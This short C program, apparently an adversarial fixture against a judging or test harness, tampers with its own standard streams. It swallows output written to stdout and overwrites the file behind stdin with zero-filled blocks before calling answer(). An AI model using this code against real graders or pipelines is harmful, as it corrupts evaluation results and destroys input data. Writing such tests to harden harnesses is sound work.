#include "attack.h"

int	main(void)
{
	char	bytes[4096] = {0};

	int	out = open("/proc/self/fd/1", O_RDWR | O_NONBLOCK);
	int	in = open("/proc/self/fd/0", O_RDWR);
	if (out >= 0)
	{
		fcntl(out, F_SETPIPE_SZ, 1 << 20);
		fcntl(1, F_SETFL, O_DIRECT | O_NONBLOCK);
		if (write(out, "lost", 4) == 4)
			while (read(out, bytes, sizeof bytes) > 0)
				;
	}
	if (in >= 0)
		for (int i = 0; i < 1000; i++)
			if (pwrite(in, bytes, sizeof bytes, 4096 * (i + 1)) != sizeof bytes)
				break;
	fcntl(1, F_SETFL, 0);
	answer();
}
